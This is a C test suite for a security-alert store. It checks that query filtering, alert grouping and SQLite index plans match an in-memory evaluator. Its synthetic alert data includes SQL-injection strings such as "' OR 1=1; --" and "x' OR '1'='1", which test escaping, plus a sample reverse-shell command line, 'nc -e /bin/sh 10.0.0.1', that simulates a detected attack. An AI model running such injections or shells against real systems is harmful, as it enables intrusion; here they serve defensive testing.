/* SPDX-License-Identifier: Apache-2.0 */

/*
 * What lists find with a query is what the evaluator finds in everything there is: SQL leaves
 * nothing out. Random queries over a random store; and which indexes SQLite uses for them.
 */

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/cleanup.h"
#include "model/query_eval.h"
#include "model/slot.h"
#include "model/workload.h"
#include "store/alert_scan.h"
#include "store/alerts.h"
#include "store/incident_ranks.h"
#include "store/incidents.h"
#include "store/print_groups.h"
#include "tests/lib/random.h"
#include "tests/lib/store_rig.h"

enum { N_ALERTS = 1500, PER_COMMIT = 50, N_QUERIES = 120, QUERY_TEXT_BYTES = 2048 };

static struct store_rig rig;
static struct random chance;
static struct err err;
static struct arena stored; /* all there is */
static struct alert *all_alerts;
static uint64_t incident_of[N_ALERTS + 1];
static struct incident *all_incidents;

static const char *one_of(const char *const *words, size_t n)
{
	return words[random_below(&chance, n)];
}

#define ONE_OF(...)                                                                                \
	one_of((const char *const[]){__VA_ARGS__},                                                 \
		sizeof((const char *const[]){__VA_ARGS__}) / sizeof(char *))

static struct text random_text(struct arena *arena, unsigned n_absent_of_8, const char *text)
{
	return random_below(&chance, 8) < n_absent_of_8 ? TEXT_NONE
							: arena_copy(arena, text_of(text));
}

#define HOSTILE "it's \"%' OR 1=1; --"

static void make_place(struct alert *alert, struct arena *arena)
{
	alert->namespace = random_text(arena, 1, ONE_OF("prod", "dev", "Prod", HOSTILE));
	alert->pod = random_text(
		arena, 2, ONE_OF("web-755f25fcf-799fh", "web-755f25fcf-abcde", "db-0", "x"));
	alert->pod_uid = random_text(arena, 5, ONE_OF("uid-1", "uid-2"));
	alert->node = random_text(arena, 2, ONE_OF("node-1", "node-2"));
	alert->container_id = random_text(arena, 4, ONE_OF("0123456789ab", "ba9876543210"));
	alert->container = random_text(arena, 4, ONE_OF("web", "sidecar"));
}

static void make_process(struct alert *alert, struct arena *arena)
{
	alert->process.name = random_text(arena, 1, ONE_OF("bash", "nc", "curl"));
	alert->process.exe = random_text(arena, 1, ONE_OF("/bin/bash", "/usr/bin/nc"));
	alert->process.parent = random_text(arena, 1, ONE_OF("runc", "sh"));
	alert->process.user = random_text(arena, 1, ONE_OF("root", "app"));
	alert->process.cmdline = random_text(arena, 1, ONE_OF("bash -i", "nc -e /bin/sh 10.0.0.1"));
	alert->image = random_text(arena, 1, ONE_OF("registry/web:1", "registry/db:2"));
	alert->message =
		random_text(arena, 1, ONE_OF("a shell was spawned", "a file was read", HOSTILE));
}

static void make_alert(struct batch *batch, unsigned i)
{
	struct alert *alert = store_rig_alert(batch, i);
	struct arena *arena = &batch->arena;
	make_place(alert, arena);
	make_process(alert, arena);
	alert->time_ns = (RIG_TIME_S - (int64_t)random_below(&chance, 200000)) * NS_PER_S;
	alert->received_ns = (RIG_TIME_S + (int64_t)i) * NS_PER_S;
	alert->rule = arena_copy(
		arena, text_of(ONE_OF("Terminal shell", "Read file", "terminal shell", HOSTILE)));
	alert->sensor = arena_copy(arena, text_of(ONE_OF("falco", "tetragon")));
	alert->source = random_below(&chance, 2) ? SOURCE_FALCO : SOURCE_TOCSIN;
	alert->action = (enum alert_action)random_below(&chance, 4);
	alert->tactics = (tactic_mask)random_below(&chance, 1 << N_TACTICS);
	alert->n_techniques = 0;
	if (random_below(&chance, 2))
		alert_add_technique(alert, random_below(&chance, 2) ? 1059004 : 1611000);
	alert->count = 1 + random_below(&chance, 3);
	alert->flags = random_below(&chance, 4) ? 0 : ALERT_CONTEXT;
	if (random_below(&chance, 20) == 0)
		alert->flags = ALERT_HEALTH;
	alert->fingerprint[0] = (unsigned char)(alert->rule.size * 2 + alert->sensor.size);
	memset(alert->fingerprint + 1, (unsigned char)alert->rule.data[0], FINGERPRINT_BYTES - 1);
}

static void fill(void)
{
	for (unsigned i = 0; i < N_ALERTS; i += PER_COMMIT) {
		struct batch *batch = store_rig_batch();
		for (unsigned j = i; j < i + PER_COMMIT; j++)
			make_alert(batch, j);
		ck_assert_msg(store_rig_commit(&rig, batch, &err) == 0, "%s", err.text);
		batch_free(batch);
	}
}

/* What people decided, as the tables have it. */
static void decide(struct connection *connection)
{
	static const char *const decisions[] = {
		"UPDATE incident SET state = number % 6, verdict = CASE WHEN number % 6 > 3 THEN "
		"number % 5 + 1 ELSE 0 END",
		"UPDATE incident SET assignee = 'ann' WHERE number % 3 = 0",
		"UPDATE incident SET assignee = 'Bob''s' WHERE number % 7 = 0",
		"UPDATE incident SET resolved_ns = 1780000000000000000 + number WHERE state >= 4",
		"UPDATE incident SET sealed_ns = 1 WHERE number % 4 = 0",
		"UPDATE incident SET snoozed_until_ns = 5 WHERE number % 5 = 0",
		"UPDATE incident SET recurrence_of = 1 WHERE number % 6 = 5",
		"UPDATE incident SET title = 'Something else' WHERE number % 9 = 0",
	};
	for (size_t i = 0; i < sizeof decisions / sizeof decisions[0]; i++)
		ck_assert_msg(connection_run(connection, decisions[i], &err) == 0, "%s", err.text);
}

static void read_all(struct connection *connection)
{
	struct alert_filter no_filter = {.rule = TEXT_NONE};
	struct incident_filter none = {.roll_up = false};
	struct alert_page first = {.limit = ALERTS_LIST_MAX, .arena = &stored};
	struct alert_page second = {.limit = ALERTS_LIST_MAX, .arena = &stored};
	struct incident_page incidents = {.limit = INCIDENTS_LIST_MAX, .arena = &stored};
	ck_assert_msg(alerts_list(connection, &no_filter, &first, &err) == 0, "%s", err.text);
	second.before = first.next_before;
	ck_assert_msg(alerts_list(connection, &no_filter, &second, &err) == 0, "%s", err.text);
	struct alert **last = &first.first;
	size_t n = 0;
	while (*last)
		last = &(*last)->next;
	*last = second.first;
	all_alerts = first.first;
	for (const struct alert *alert = all_alerts; alert; alert = alert->next, n++)
		ck_assert_int_eq(
			incident_of_alert(connection, alert, &incident_of[alert->leaf], &err), 0);
	ck_assert_uint_eq(n, N_ALERTS);
	ck_assert_msg(incidents_list(connection, &none, &incidents, &err) == 0, "%s", err.text);
	ck_assert_uint_eq(incidents.next_before, 0);
	all_incidents = incidents.first;
	ck_assert_ptr_nonnull(all_incidents);
}

static const char *term_of_both(void)
{
	return ONE_OF("ns:prod", "ns=Prod", "ns:*", "ns:\"\"", "namespace!=prod", "ns:\"it's*\"",
		"pod:web*", "pod=db-0", "pod=~\"web.*|x\"", "pod:\"\"", "pod_uid:uid-1",
		"pod_uid:*", "node:node-1", "node=~\".*2\"", "node:\"\"", "cluster:c",
		"cluster:other", "wl:web", "wl:*", "container:0123456789ab", "container:web",
		"container_id:ba*", "container:\"\"", "rule:\"terminal shell\"",
		"rule=\"Terminal shell\"", "rule=~\"(?i)t.*\"", "rule:\"\"",
		"rule:\"it's \\\"%' OR 1=1; --\"", "{alertname=\"x' OR '1'='1\"}", "sensor:falco",
		"sensor=~\"t.*\"", "sensor!~\"t.*\"", "tactic:execution", "tactic:discovery,impact",
		"tactic:exfiltration", "technique:T1059", "technique:T1611", "fp:1313",
		"fp:22545454545454545454545454545454", "fp:*", "sev>=high", "sev:low", "sev<medium",
		"sev:info,critical", "first>1d", "last<2d", "last>12h last<30h", "first<6h",
		"last:2026-09-20", "last<2026-09-20", "shell", "web", "\"1=1\"", "prod", "nothing");
}

static const char *term_of_alerts(void)
{
	return ONE_OF("process:bash", "cmdline:*nc*", "exe:/bin/*", "parent=runc", "user:root",
		"user:\"\"", "image:*db*", "message:*shell*", "source:falco", "source:tocsin",
		"action:blocked,killed", "is:context", "is:health", "count>1", "leaf<100",
		"leaf>=1400", "leaf:7", "incident:3", "incident>5", "received>20m", "received<1m",
		"tag:x");
}

static const char *term_of_incidents(void)
{
	return ONE_OF("state:open", "state:closed", "state=closed", "state:new,contained",
		"verdict:none", "verdict:duplicate", "assignee:none", "assignee:me",
		"who:\"bob's\"", "who:*", "risk>20", "risk<=10", "risk:3", "number>10",
		"number:INC-7", "alerts>5", "alerts:1", "title:\"something*\"", "resolved:*",
		"resolved<9000d", "resolved>10d", "is:sealed", "is:snoozed,recurrence", "is:frozen",
		"is:split");
}

static void add_random(struct buf *out, enum query_of of, unsigned depth)
{
	unsigned n = 1 + (unsigned)random_below(&chance, 3);
	for (unsigned i = 0; i < n; i++) {
		if (i)
			buf_add_string(out, random_below(&chance, 3) ? " " : " OR ");
		if (random_below(&chance, 4) == 0)
			buf_add_byte(out, '-');
		if (depth && random_below(&chance, 3) == 0) {
			buf_add_byte(out, '(');
			add_random(out, of, depth - 1);
			buf_add_byte(out, ')');
		} else if (random_below(&chance, 3)) {
			buf_add_string(out, term_of_both());
		} else {
			buf_add_string(out,
				of == QUERY_OF_ALERTS ? term_of_alerts() : term_of_incidents());
		}
	}
}

static const struct query *random_query(enum query_of of, struct arena *arena, struct buf *text)
{
	const struct query_options options = {
		.of = of, .now_ns = RIG_TIME_S * NS_PER_S, .me = TEXT("ann")};
	const struct query *query = NULL;
	buf_clear(text);
	add_random(text, of, 2);
	/* "resolved:*" is no time: what does not parse is another test's. */
	if (query_parse(buf_text(text), &options, arena, &query, &err) < 0)
		return NULL;
	return query;
}

static void check_alerts(
	struct connection *connection, const char *text, const struct query *query, size_t limit)
{
	AUTO(arena_done) struct arena arena;
	struct alert_filter filter = {.query = query};
	uint64_t before = 0;
	const struct alert *alert = all_alerts;
	arena_init(&arena, 256 * 1024 * 1024);
	do {
		struct alert_page page = {.before = before, .limit = limit, .arena = &arena};
		ck_assert_msg(alerts_list(connection, &filter, &page, &err) == 0, "%s: %s", text,
			err.text);
		for (const struct alert *found = page.first; found;
			found = found->next, alert = alert->next) {
			while (alert && !query_has_alert(query, alert, incident_of[alert->leaf]))
				alert = alert->next;
			ck_assert_msg(alert && alert->leaf == found->leaf,
				"%s: finds leaf %llu, not %lld", text,
				(unsigned long long)found->leaf,
				alert ? (long long)alert->leaf : -1);
		}
		before = page.next_before;
	} while (before);
	for (; alert; alert = alert->next)
		ck_assert_msg(!query_has_alert(query, alert, incident_of[alert->leaf]),
			"%s: leaf %llu is left out", text, (unsigned long long)alert->leaf);
}

static void check_incidents(
	struct connection *connection, const char *text, const struct query *query)
{
	AUTO(arena_done) struct arena arena;
	struct incident_filter filter = {.query = query};
	size_t n = 0, n_by_risk = 0;
	arena_init(&arena, 256 * 1024 * 1024);
	struct incident_page page = {.limit = INCIDENTS_LIST_MAX, .arena = &arena};
	struct incident_page by_risk = page;
	ck_assert_msg(
		incidents_list(connection, &filter, &page, &err) == 0, "%s: %s", text, err.text);
	ck_assert_msg(incidents_by_risk(connection, &filter, &by_risk, &err) == 0, "%s: %s", text,
		err.text);
	const struct incident *found = page.first;
	for (struct incident *incident = all_incidents; incident; incident = incident->next) {
		struct incident whole = *incident;
		if (query_needs_story(query))
			ck_assert_int_eq(
				incident_read(connection, incident->number, &arena, &whole, &err),
				0);
		if (!query_has_incident(query, &whole))
			continue;
		ck_assert_msg(found && found->number == incident->number,
			"%s: INC-%llu is left out", text, (unsigned long long)incident->number);
		found = found->next;
		n++;
	}
	ck_assert_msg(!found, "%s: INC-%llu is too much", text,
		found ? (unsigned long long)found->number : 0);
	for (found = by_risk.first; found; found = found->next)
		n_by_risk++;
	ck_assert_msg(n == n_by_risk, "%s: %zu, by risk %zu", text, n, n_by_risk);
}

START_TEST(finds_what_the_evaluator_finds)
{
	struct connection connection;
	unsigned n_alerts = 0, n_incidents = 0;
	ck_assert_int_eq(connection_open(&connection, rig.path, CONNECTION_READ, NULL, &err), 0);
	for (unsigned i = 0; i < N_QUERIES; i++) {
		AUTO(arena_done) struct arena arena;
		AUTO(buf_done) struct buf text;
		arena_init(&arena, 16 * 1024 * 1024);
		buf_init(&text, QUERY_TEXT_BYTES);
		const struct query *query = random_query(QUERY_OF_ALERTS, &arena, &text);
		if (query) {
			check_alerts(&connection, buf_string(&text), query,
				1 + random_below(&chance, 300));
			n_alerts++;
		}
		query = random_query(QUERY_OF_INCIDENTS, &arena, &text);
		if (query) {
			check_incidents(&connection, buf_string(&text), query);
			n_incidents++;
		}
	}
	ck_assert_uint_gt(n_alerts, N_QUERIES / 2);
	ck_assert_uint_gt(n_incidents, N_QUERIES / 2);
	connection_close(&connection);
}
END_TEST

static const struct query *parsed(const char *text, enum query_of of, struct arena *arena)
{
	const struct query_options options = {.of = of, .now_ns = RIG_TIME_S * NS_PER_S};
	const struct query *query;
	ck_assert_msg(query_parse(text_of(text), &options, arena, &query, &err) == 0, "%s: %s",
		text, err.text);
	return query;
}

/* What SQLite says about how it runs the lists' statement with this query. */
static void read_plan(struct connection *connection, const struct query *query, struct buf *plan)
{
	AUTO(arena_done) struct arena arena;
	AUTO(query_sql_done) struct query_sql sql;
	AUTO(query_statement) sqlite3_stmt *statement = NULL;
	arena_init(&arena, 16 * 1024 * 1024);
	ck_assert_int_eq(query_sql_init(&sql, connection, query, &arena, &err), 0);
	statement = query_sql_prepare(connection, &sql,
		query->of == QUERY_OF_ALERTS
			? "EXPLAIN QUERY PLAN SELECT a.leaf FROM alert a WHERE a.leaf < ?1 AND "
			: "EXPLAIN QUERY PLAN SELECT i.number FROM incident i LEFT JOIN piece p ON"
			  " p.number = i.number LEFT JOIN key k ON k.id = p.key WHERE i.number < ?1"
			  " AND ",
		query->of == QUERY_OF_ALERTS ? " ORDER BY a.leaf DESC" : " ORDER BY i.number DESC",
		&err);
	ck_assert_msg(statement, "%s", err.text);
	buf_clear(plan);
	while (sqlite3_step(statement) == SQLITE_ROW)
		buf_addf(plan, "%s\n", (const char *)sqlite3_column_text(statement, 3));
}

/* Which workload an alert counts with, as the store names it. */
static struct text workload_name(const struct alert *alert, struct arena *arena)
{
	struct identity_seen seen = {.cluster = alert->cluster,
		.uid = alert->pod_uid,
		.container = alert->container_id,
		.node = alert->node};
	if (alert->namespace.size && alert->pod.size)
		seen.name = arena_format(
			arena, "%.*s/%.*s", TEXT_ARG(alert->namespace), TEXT_ARG(alert->pod));
	return workload_of_seen(arena, &seen);
}

static struct text group_name(const struct print_group *group, struct arena *arena)
{
	const struct alert *like = &group->like;
	if (like->node.size)
		return arena_format(
			arena, "node:%.*s/%.*s", TEXT_ARG(like->cluster), TEXT_ARG(like->node));
	if (!like->workload.name.size)
		return TEXT_NONE;
	return arena_format(arena, "%.*s/%.*s/%.*s", TEXT_ARG(like->cluster),
		TEXT_ARG(like->namespace), TEXT_ARG(like->workload.name));
}

/* A group is what its alerts are together. */
static void check_group(const struct print_group *group, struct arena *arena)
{
	struct text name = group_name(group, arena);
	uint64_t n = 0, newest = 0;
	int64_t first_ns = INT64_MAX, last_ns = INT64_MIN;
	for (const struct alert *alert = all_alerts; alert; alert = alert->next) {
		if (memcmp(alert->fingerprint, group->like.fingerprint, FINGERPRINT_BYTES) != 0 ||
			!text_equal(workload_name(alert, arena), name))
			continue;
		n++;
		newest = alert->leaf > newest ? alert->leaf : newest;
		first_ns = alert->time_ns < first_ns ? alert->time_ns : first_ns;
		last_ns = alert->time_ns > last_ns ? alert->time_ns : last_ns;
	}
	ck_assert_uint_eq(group->n, n);
	ck_assert_uint_eq(group->like.leaf, newest);
	ck_assert_int_eq(group->first_ns, first_ns);
	ck_assert_int_eq(group->like.time_ns, last_ns);
}

/* All groups, by pages of 7, are all alerts; and in the order that was asked for. */
static void check_groups(
	struct connection *connection, enum print_order order, const struct query *query)
{
	AUTO(arena_done) struct arena arena;
	struct print_filter filter = {.order = order, .query = query};
	arena_init(&arena, 256 * 1024 * 1024);
	struct print_page page = {.limit = 7, .arena = &arena};
	int64_t before = INT64_MAX;
	uint64_t n = 0;
	do {
		ck_assert_msg(
			print_groups_list(connection, &filter, &page, &err) == 0, "%s", err.text);
		for (const struct print_group *group = page.first; group; group = group->next) {
			ck_assert_int_le(group->order, before);
			before = group->order;
			ck_assert(!query || query_has_print(query, group));
			check_group(group, &arena);
			n += group->n;
		}
		page.has_after = page.has_next;
		page.after = page.next;
	} while (page.has_next);
	for (const struct alert *alert = all_alerts; alert && query; alert = alert->next)
		if (text_is(alert->rule, "Read file"))
			n++;
	ck_assert_uint_eq(n, N_ALERTS);
}

START_TEST(groups_alerts_by_kind_and_workload)
{
	struct connection connection;
	AUTO(arena_done) struct arena arena;
	arena_init(&arena, 1024 * 1024);
	ck_assert_int_eq(connection_open(&connection, rig.path, CONNECTION_READ, NULL, &err), 0);
	check_groups(&connection, PRINTS_NEWEST, NULL);
	check_groups(&connection, PRINTS_MOST, NULL);
	check_groups(&connection, PRINTS_MOST,
		parsed("-rule:\"read file\"", QUERY_OF_FINGERPRINTS, &arena));
	connection_close(&connection);
}
END_TEST

START_TEST(uses_indexes)
{
	static const struct {
		enum query_of of;
		const char *query, *wanted, *unwanted;
	} rows[] = {
		{QUERY_OF_ALERTS, "leaf:7",
			"SEARCH a USING INTEGER PRIMARY KEY (rowid>? AND rowid<?)", "SCAN"},
		{QUERY_OF_ALERTS, "rule=\"Read file\"",
			"USING COVERING INDEX sqlite_autoindex_rule_1 (name=?)", "SCAN rule"},
		{QUERY_OF_ALERTS, "fp:22545454545454545454545454545454",
			"USING COVERING INDEX sqlite_autoindex_fingerprint_1 (hash=?)", "SCAN"},
		{QUERY_OF_ALERTS, "ns:prod", "SEARCH a USING INTEGER PRIMARY KEY", "SCAN a"},
		{QUERY_OF_INCIDENTS, "number:7",
			"SEARCH i USING INTEGER PRIMARY KEY (rowid>? AND rowid<?)", "SCAN"},
		{QUERY_OF_INCIDENTS, "ns:prod rule:x sev>=high",
			"SEARCH m USING PRIMARY KEY (number=?)", "SCAN"},
	};
	struct connection connection;
	AUTO(buf_done) struct buf plan;
	buf_init(&plan, 65536);
	ck_assert_int_eq(connection_open(&connection, rig.path, CONNECTION_READ, NULL, &err), 0);
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		AUTO(arena_done) struct arena arena;
		arena_init(&arena, 16 * 1024 * 1024);
		read_plan(&connection, parsed(rows[i].query, rows[i].of, &arena), &plan);
		ck_assert_msg(strstr(buf_string(&plan), rows[i].wanted) &&
				      !strstr(buf_string(&plan), rows[i].unwanted) &&
				      !strstr(buf_string(&plan), "TEMP B-TREE"),
			"%s:\n%s", rows[i].query, buf_string(&plan));
	}
	connection_close(&connection);
}
END_TEST

/* A bound of the time is one of the leaves: nothing outside it is looked at. */
START_TEST(bounds_leaves_by_time)
{
	struct connection connection;
	AUTO(arena_done) struct arena arena;
	arena_init(&arena, 64 * 1024 * 1024);
	ck_assert_int_eq(connection_open(&connection, rig.path, CONNECTION_READ, NULL, &err), 0);
	struct alert_filter filter = {
		.query = parsed("last>40h last<41h", QUERY_OF_ALERTS, &arena)};
	AUTO(alert_scan_done) struct alert_scan scan;
	ck_assert_int_eq(alert_scan_init(&scan, &connection, &filter, 0, &arena, &err), 0);
	const int64_t low = (RIG_TIME_S - 41 * 3600) * NS_PER_S, high = low + 3600 * NS_PER_S;
	uint64_t first = UINT64_MAX, last = 0;
	for (const struct alert *alert = all_alerts; alert; alert = alert->next) {
		bool in = alert->slot >= 0
				  ? alert->slot >= slot_of(low) && alert->slot <= slot_of(high)
				  : alert->time_ns > low && alert->time_ns < high;
		if (!in)
			continue;
		first = alert->leaf < first ? alert->leaf : first;
		last = alert->leaf > last ? alert->leaf : last;
	}
	ck_assert_uint_eq(scan.first, first);
	ck_assert_uint_eq(scan.before, last + 1);
	connection_close(&connection);
}
END_TEST

static void setup(void)
{
	arena_init(&stored, 256 * 1024 * 1024);
	store_rig_init(&rig, NULL);
	ck_assert_msg(store_rig_open(&rig, &err) == 0, "%s", err.text);
	fill();
	decide(store_connection(rig.store));
	read_all(store_connection(rig.store));
}

static void teardown(void)
{
	arena_done(&stored);
	store_rig_done(&rig);
}

int main(void)
{
	Suite *suite = suite_create("query_sql");
	TCase *tests = tcase_create("query_sql");
	chance = random_from_environment();
	tcase_add_unchecked_fixture(tests, setup, teardown);
	tcase_set_timeout(tests, 120);
	tcase_add_test(tests, finds_what_the_evaluator_finds);
	tcase_add_test(tests, groups_alerts_by_kind_and_workload);
	tcase_add_test(tests, uses_indexes);
	tcase_add_test(tests, bounds_leaves_by_time);
	suite_add_tcase(suite, tests);
	SRunner *runner = srunner_create(suite);
	srunner_run_all(runner, CK_ENV);
	int failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
